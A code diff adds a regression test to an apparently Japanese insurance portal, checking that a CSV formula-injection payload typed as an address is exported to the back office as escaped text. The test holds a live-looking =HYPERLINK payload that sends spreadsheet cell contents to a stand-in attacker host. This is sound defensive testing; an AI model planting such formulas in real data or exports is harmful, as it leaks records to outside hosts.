@@ -159,3 +159,23 @@ def test_conditions_import_checks_codes_and_contracts(seeded, runner, tmp_path):
     assert runner.invoke(args=["conditions", "import", str(f)]).exit_code == 0
     row = in_app(seeded, lambda: ContractConditions.for_contract(Contract.by_policy_number(TARO_CAR)))
     assert (row.grade, row.vehicle, row.deductible) == (20, "none", "")
+
+
+@also_on_postgres
+def test_a_formula_typed_as_an_address_reaches_the_back_office_as_text(seeded, taro, runner):
+    """Issue 18 #8: on main the address went out as a live =HYPERLINK formula."""
+    import csv
+    import io
+
+    attack = '=HYPERLINK("https://evil.example/?d="&A2,"詳細")'
+    r = taro.post("/mypage/profile/change", {"postal_code": "1000001", "address": attack,
+                                             "phone": "+81-3-1234-5678"})
+    assert r.status_code == 303
+    result = runner.invoke(args=["changes", "export", "--since", window.today().isoformat()])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))) for cell in row]
+    assert "'" + attack in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # read back by our own parser, the address is what the member typed
+    [row] = export.parse_changes(result.stdout_bytes)
+    assert row["new_address"] == attack
